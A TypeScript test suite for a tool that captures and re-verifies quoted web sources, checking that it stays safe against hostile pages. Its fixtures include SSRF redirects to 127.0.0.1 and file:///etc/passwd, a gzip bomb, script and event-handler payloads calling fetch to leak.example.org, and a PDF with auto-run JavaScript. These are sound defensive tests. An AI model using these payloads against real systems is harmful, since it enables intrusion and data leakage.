import { existsSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs'
import type { IncomingMessage, ServerResponse } from 'node:http'
import { join } from 'node:path'
import { gzipSync } from 'node:zlib'
import { afterAll, beforeAll, beforeEach, expect, test } from 'vitest'
import { verifyMarkdown } from '#core/evidence/verify-text.ts'
import { isNews } from '#core/evidence/verify.ts'
import type { Day } from '#core/model/date.ts'
import { readContent } from '#disk/read-content.ts'
import { cite, citedSources, silentTalks, WORDS } from '#tests/cited-talks.ts'
import { serveWeb, smallPdf, type SmallWeb } from '#tests/page-server.ts'
import { createArchive } from '#web/ask-archive.ts'
import { createVisitor } from '#web/visitor.ts'
import { captureSources } from './capture-sources.ts'
import { chooseSources } from './choose-sources.ts'
import { verifySources } from './verify-sources.ts'

/** The whole round over a small web: capture, something changes there, verify, capture again. */

type Page = (response: ServerResponse, request: IncomingMessage) => void

const MORE = 'A long article. '.repeat(120)
const html =
  (body: string, head = ''): Page =>
  (response) => {
    response.setHeader('content-type', 'text/html; charset=utf-8')
    response.end(
      `<!doctype html><html lang="en"><head>${head}</head><body><article><h1>The lamp</h1>${body}</article></body></html>`,
    )
  }
const article = (words: string) =>
  html(`<p>On Monday the keeper said: “${words}”. Others did not agree.</p><p>${MORE}</p>`)
const status =
  (code: number, headers: Record<string, string> = {}): Page =>
  (response) => {
    response.writeHead(code, headers)
    response.end('<p>Nothing to see here, but a line of text.</p>')
  }

let web: SmallWeb
let folder = ''
let pages: Record<string, Page> = {}
let asked: string[] = []

beforeAll(async () => {
  const answer = (request: IncomingMessage, response: ServerResponse) => {
    const address = `${request.headers.host}${request.url}`
    asked.push(address)
    const page = pages[address] ?? status(404)
    page(response, request)
  }
  web = await serveWeb(answer, { 'inside.example.net': ['10.0.0.7'], 'mixed.example.net': ['93.184.216.34', '::1'] })
})
afterAll(() => web.close())

beforeEach(() => {
  if (folder) rmSync(folder, { recursive: true, force: true })
  folder = silentTalks()
  pages = {}
  asked = []
})
afterAll(() => rmSync(folder, { recursive: true, force: true }))

/** A source under this address from which one position quotes these words. */
const source = (name: string, url: string, words?: string, lang?: string) => cite(folder, name, url, words, lang)

const visitor = (limits = { time: 2_000, size: 200_000 }) =>
  createVisitor({ home: 'https://talks.example.org', web, limits, wait: () => Promise.resolve() })

async function capture(day: Day = '2025-02-01', limits?: { time: number; size: number }) {
  const options = { folder, day, visit: visitor(limits), askArchive: null }
  const captured = await captureSources(await citedSources(folder), options)
  return new Map(captured.map((one) => [one.source, one]))
}

async function verify() {
  const sources = await verifySources(await citedSources(folder), visitor())
  const told = sources.map((one): [string, string] => [
    one.source,
    one.page === 'read' ? one.quotations.map(({ now }) => now).join(' ') : one.page,
  ])
  return {
    told: Object.fromEntries(told),
    news: sources.filter(isNews).map((one) => one.source),
    text: verifyMarkdown(sources),
  }
}

const evidence = (name: string) => readFileSync(join(folder, `talks/evidence/${name}.yaml`), 'utf8')

test('finds words in HTML, in a PDF, in plain text, behind redirects, packed, and in another encoding than is declared', async () => {
  pages['a.example.org/html'] = article(WORDS)
  pages['b.example.org/old'] = status(301, { location: 'http://b.example.org/mid' })
  pages['b.example.org/mid'] = status(302, { location: '/new?x=1#part' })
  pages['b.example.org/new?x=1'] = article(WORDS)
  pages['c.example.org/paper.pdf'] = (response) => response.end(smallPdf(['Title', `They wrote: ${WORDS}.`]))
  pages['d.example.org/plain'] = (response) =>
    response.setHeader('content-type', 'text/plain').end(`Minutes\n\n${WORDS}.`)
  pages['e.example.org/packed'] = (response) => {
    response.writeHead(200, { 'content-type': 'text/html', 'content-encoding': 'gzip' })
    response.end(gzipSync(`<p>${WORDS}`))
  }
  pages['f.example.org/ru'] = (response) => {
    response.setHeader('content-type', 'text/html; charset=utf-8')
    const letters = [...'<meta charset="windows-1251"><p>Мы просим лампу'].map((one) => one.charCodeAt(0))
    response.end(Buffer.from(letters.map((code) => (code < 128 ? code : code - 0x410 + 0xc0))))
  }
  source('html', 'http://a.example.org/html#top')
  source('sent-on', 'http://b.example.org/old')
  source('pdf', 'http://c.example.org/paper.pdf')
  source('plain', 'http://d.example.org/plain')
  source('packed', 'http://e.example.org/packed')
  source('letters', 'http://f.example.org/ru', 'Мы просим лампу', 'ru')
  const captured = await capture()
  expect(Object.fromEntries([...captured].map(([name, { quotations }]) => [name, quotations[0]?.found]))).toEqual({
    ...{ html: 'exact', 'sent-on': 'exact', pdf: 'exact', plain: 'exact', packed: 'exact', letters: 'exact' },
  })
  expect(evidence('sent-on')).toMatch(/address: "http:\/\/b\.example\.org\/new\?x=1"\nredirects: 2\ntype: html\n/)
  expect(evidence('pdf')).toMatch(/type: pdf[^]*prefix: "?Title They wrote:"?[^]*page: 2/)
  expect(evidence('html')).toMatch(/seen: 2025-02-01[^]*lang: en[^]*prefix: "Monday the keeper said: “"\n/)
  const { problems } = await readContent(folder)
  expect(problems.filter(({ rule }) => /evidence|seen/.test(rule))).toEqual([])
})

test('asks for each page and each robots.txt once, and not for what robots.txt forbids', async () => {
  pages['a.example.org/robots.txt'] = (response) => response.end('User-agent: *\nDisallow: /closed\n')
  pages['b.example.org/robots.txt'] = (response) =>
    response.end('User-agent: Parley\nDisallow: /\n\nUser-agent: *\nAllow: /')
  pages['c.example.org/robots.txt'] = status(503)
  for (const host of 'abc') pages[`${host}.example.org/open`] = article(WORDS)
  source('open', 'http://a.example.org/open')
  source('closed', 'http://a.example.org/closed')
  source('not-us', 'http://b.example.org/open')
  source('unsure', 'http://c.example.org/open')
  const captured = await capture()
  expect([...captured].map(([name, { notRead }]) => [name, notRead?.said ?? 'read'])).toEqual([
    ['closed', 'its robots.txt does not let programs read it'],
    ['not-us', 'its robots.txt does not let programs read it'],
    ['open', 'read'],
    ['unsure', 'its robots.txt does not let programs read it'],
  ])
  expect(asked.filter((one) => !one.endsWith('robots.txt'))).toEqual(['a.example.org/open'])
  expect(asked.filter((one) => one === 'a.example.org/robots.txt')).toHaveLength(1)
})

test('goes nowhere but to public addresses, whoever sends it there', async () => {
  pages['a.example.org/to-inside'] = status(302, { location: 'http://inside.example.net/secret' })
  pages['a.example.org/to-number'] = status(302, { location: 'http://127.0.0.1/secret' })
  pages['a.example.org/to-file'] = status(302, { location: 'file:///etc/passwd' })
  pages['a.example.org/to-port'] = status(302, { location: 'http://a.example.org:22/' })
  pages['a.example.org/round'] = status(302, { location: '/round' })
  for (const name of ['to-inside', 'to-number', 'to-file', 'to-port', 'round'])
    source(name, `http://a.example.org/${name}`)
  source('inside', 'http://inside.example.net/secret')
  source('mixed', 'http://mixed.example.net/secret')
  const captured = await capture()
  expect(Object.fromEntries([...captured].map(([name, { notRead }]) => [name, notRead?.said]))).toEqual({
    inside: 'its host stands for an address that is not public',
    mixed: 'its host stands for an address that is not public',
    round: 'it sends on in a circle',
    'to-file': expect.stringMatching(/not one of the public web|its robots|cannot be read/) as string,
    'to-inside': 'its host stands for an address that is not public',
    'to-number': 'its address is not one of the public web',
    'to-port': 'its address names a port that pages are not served on',
  })
  expect(asked.join(' ')).not.toContain('secret')
  expect(existsSync(join(folder, 'talks/evidence'))).toBe(false)
})

test('gives up on a page that is slow, huge, broken off or made to last, and says which', async () => {
  pages['a.example.org/slow'] = (response) => void response.writeHead(200, { 'content-type': 'text/html' }).write('<p>')
  pages['b.example.org/huge'] = (response) => response.end('<p>word '.repeat(100_000))
  pages['c.example.org/bomb'] = (response) => {
    response.writeHead(200, { 'content-encoding': 'gzip' })
    response.end(gzipSync(Buffer.alloc(5_000_000)))
  }
  pages['d.example.org/cut'] = (response) => {
    response.writeHead(200, { 'content-length': '5000', 'content-type': 'text/html' })
    response.write(`<p>${WORDS}`)
    setTimeout(() => response.destroy(), 50)
  }
  for (const [host, name] of ['slow', 'huge', 'bomb', 'cut'].entries()) {
    source(name, `http://${'abcd'[host]}.example.org/${name}`)
  }
  const captured = await capture('2025-02-01', { time: 1_000, size: 200_000 })
  expect(Object.fromEntries([...captured].map(([name, { notRead }]) => [name, notRead?.said]))).toEqual({
    ...{ slow: 'it did not answer in time', huge: 'it has more than 0 MB', bomb: 'it has more than 0 MB' },
    cut: 'it broke off before its end',
  })
})

test('tells what was found, moved, changed, gone, dead, paywalled and behind a wall since, and keeps the day it was last found', async () => {
  const names = [
    'same',
    'moved',
    'changed',
    'reordered',
    'gone',
    'dead',
    'front',
    'paid',
    'wall',
    'cut-off',
    'turned-away',
  ]
  for (const name of names) {
    pages[`${name}.example.org/page`] = article(WORDS)
    source(name, `http://${name}.example.org/page`)
  }
  await capture('2025-02-01')
  expect(await verify()).toMatchObject({ news: [], text: '' })
  pages['same.example.org/page'] = html(`<p>On Monday the keeper said: "${WORDS}". Others did not agree.</p>`)
  pages['moved.example.org/page'] = html(`<p>${MORE}</p><p>In the end he added, “${WORDS}!”</p>`)
  pages['changed.example.org/page'] = article(WORDS.replace('a new lamp', 'no new lamp'))
  pages['reordered.example.org/page'] = article('Before the winter we ask for a new lamp, and for oil')
  pages['gone.example.org/page'] = html(`<p>${MORE}</p>`)
  pages['dead.example.org/page'] = status(410)
  pages['front.example.org/page'] = status(302, { location: '/' })
  pages['front.example.org/'] = html('<p>News of today.</p>')
  const paywall = '<script type="application/ld+json">{"isAccessibleForFree":false}</script>'
  pages['paid.example.org/page'] = html('<p>On Monday the keeper</p>', paywall)
  pages['wall.example.org/page'] = html('<p>We value your privacy. Accept cookies to go on.</p>')
  pages['cut-off.example.org/page'] = html('<p>On Monday the keeper</p>')
  pages['turned-away.example.org/page'] = status(403)
  const { told, news, text } = await verify()
  expect(told).toEqual({
    ...{
      same: 'found',
      moved: 'moved',
      changed: 'changed',
      reordered: 'changed',
      gone: 'gone',
      dead: 'dead',
      front: 'dead',
    },
    ...{ paid: 'paywalled', wall: 'refused', 'cut-off': 'cut-off', 'turned-away': 'refused' },
  })
  expect(news).toEqual(names.filter((name) => name !== 'same' && name !== 'moved').sort())
  expect(text).toContain('We ask for [-a-]{+no+} new lamp')
  expect(text).toContain('gone, last found on 2025-02-01: positions/lamp/2025-01-09-keeper-gone (quote)')
  await capture('2025-03-01')
  expect(evidence('gone')).toMatch(/^seen: 2025-03-01[^]*found: none\n {4}seen: 2025-02-01\n/m)
  expect(evidence('dead')).toMatch(
    /^seen: 2025-02-01[^]*since:\n {2}on: 2025-03-01\n {2}found: dead\n[^]*found: exact\n/m,
  )
  expect(evidence('paid')).toMatch(/since:\n {2}on: 2025-03-01\n {2}found: paywalled/)
  expect(evidence('changed')).toMatch(/found: near\n {4}seen: 2025-03-01\n {4}exact: .*We ask for no new lamp/)
  // What is written down is no news any more.
  expect(await verify()).toMatchObject({ news: [], text: '', told: { gone: 'gone', changed: 'changed' } })
})

test('a hostile page does nothing, be it by its size, its depth or its words', async () => {
  pages['a.example.org/deep'] = html(`${'<b>'.repeat(15_000)}<p>${WORDS}</p>`)
  pages['b.example.org/words'] = article(
    `${WORDS}\u202e"\n---\n::error::x ]]> \`\`\`</script><script>process.exit(9)</script>`,
  )
  pages['c.example.org/odd.pdf'] = (response) =>
    response.end(Buffer.from('%PDF-1.7\n1 0 obj<</JS(app.alert(1))>>\nxref broken'))
  pages['d.example.org/lang'] = (response) =>
    response.setHeader('content-type', 'text/html').end(`<html lang="en\n&quot;: x"><p>${WORDS}`)
  source('deep', 'http://a.example.org/deep')
  source('words', 'http://b.example.org/words')
  source('odd', 'http://c.example.org/odd.pdf')
  source('lang', 'http://d.example.org/lang')
  const captured = await capture('2025-02-01', { time: 5_000, size: 2_000_000 })
  expect([...captured].map(([name, { quotations, notRead }]) => [name, quotations[0]?.found ?? notRead?.why])).toEqual([
    ['deep', 'exact'],
    ['lang', 'exact'],
    ['odd', 'refused'],
    ['words', 'exact'],
  ])
  expect((await readContent(folder)).problems.filter(({ severity }) => severity === 'error')).toEqual([])
})

/** A PDF that would run a script, open a page and fetch files, if whoever reads it did as it says. */
function actingPdf(): Buffer {
  const acts = [
    '/OpenAction<</S/JavaScript/JS(globalThis.parleyWasRun=1;process.exit\\(9\\))>>',
    '/AA<</WC<</S/URI/URI(http://leak.example.org/pdf-uri)>>>>',
    '/Names<</EmbeddedFiles<</Names[(a)<</F<</FS/URL/F(http://leak.example.org/pdf-file)>>>>]>>>>',
  ].join('')
  return Buffer.from(
    smallPdf([`They wrote: ${WORDS}.`])
      .toString('latin1')
      .replace('<</Type/Catalog', `<</Type/Catalog${acts}`),
    'latin1',
  )
}

test('nothing of a page is run, loaded or followed, in HTML and in PDF', async () => {
  const run = `globalThis.parleyWasRun = 1; fetch('http://leak.example.org/fetch'); process.exit(9)`
  const leak = 'http://leak.example.org'
  pages['a.example.org/acts'] = html(
    `<script>${run}</script><script src="${leak}/script"></script><script type="module">import '${leak}/module'</script>
     <img src="${leak}/img" onerror="${run}"><svg onload="${run}"><image href="${leak}/svg"/></svg><body onload="${run}">
     <iframe src="${leak}/frame"></iframe><iframe srcdoc="<script>parent.parleyWasRun=1</script>"></iframe>
     <object data="${leak}/object"></object><embed src="${leak}/embed"><video src="${leak}/video" autoplay></video>
     <form action="${leak}/form"><input autofocus onfocus="${run}"></form><a href="${leak}/link" ping="${leak}/ping">x</a>
     <style>@import '${leak}/style'; p { background: url('${leak}/background') }</style>
     <p>The keeper said: “${WORDS}”.</p><p>${MORE}</p>`,
    `<meta http-equiv="refresh" content="0;url=${leak}/refresh"><base href="${leak}/"><link rel="stylesheet" href="sheet">
     <link rel="preload" as="script" href="${leak}/preload"><link rel="dns-prefetch" href="${leak}">`,
  )
  pages['b.example.org/acts.pdf'] = (response) => response.end(actingPdf())
  source('html', 'http://a.example.org/acts')
  source('pdf', 'http://b.example.org/acts.pdf')
  const before = new Set(readdirSync(folder, { recursive: true, encoding: 'utf8' }))
  const captured = await capture('2025-02-01', { time: 5_000, size: 2_000_000 })
  expect([...captured].map(([name, { quotations }]) => [name, quotations[0]?.found])).toEqual([
    ['html', 'exact'],
    ['pdf', 'exact'],
  ])
  // What a page did after it was read would show by now.
  await new Promise((resolve) => setTimeout(resolve, 300))
  expect(asked.toSorted()).toEqual(
    ['a', 'b'].flatMap((host) => [
      `${host}.example.org/${host === 'a' ? 'acts' : 'acts.pdf'}`,
      `${host}.example.org/robots.txt`,
    ]),
  )
  expect('parleyWasRun' in globalThis).toBe(false)
  const written = readdirSync(folder, { recursive: true, encoding: 'utf8' }).filter((file) => !before.has(file))
  expect(written.toSorted()).toEqual(['talks/evidence', 'talks/evidence/html.yaml', 'talks/evidence/pdf.yaml'])
  for (const name of ['html', 'pdf']) expect(evidence(name)).not.toMatch(/leak|script|parleyWasRun/)
})

test('never writes over evidence that cannot be read, and takes a copy of the public archive down if it is asked to', async () => {
  pages['a.example.org/page'] = article(WORDS)
  source('page', 'http://a.example.org/page')
  pages['archive.example.org/save/http://a.example.org/page'] = (response) =>
    response.writeHead(302, { location: '/web/20250201101112/http://a.example.org/page' }).end()
  const askArchive = createArchive('Parley', web, () => Promise.resolve(), 'http://archive.example.org')
  await captureSources(await citedSources(folder), { folder, day: '2025-02-01', visit: visitor(), askArchive })
  expect(evidence('page')).toMatch(
    /archive_url: "https:\/\/web\.archive\.org\/web\/20250201101112\/.*"\narchived: 2025-02-01/,
  )
  const broken = `${evidence('page')}<<<<<<< mine\n`
  writeFileSync(join(folder, 'talks/evidence/page.yaml'), broken)
  const { catalogue } = await readContent(folder)
  const found = chooseSources(catalogue?.datasets ?? [], ['page'])
  if ('refused' in found) throw new Error(found.refused)
  const [again] = await captureSources(found, { folder, day: '2025-03-01', visit: visitor(), askArchive: null })
  expect(again?.notRead?.said).toContain('npm run validate')
  expect(evidence('page')).toBe(broken)
})
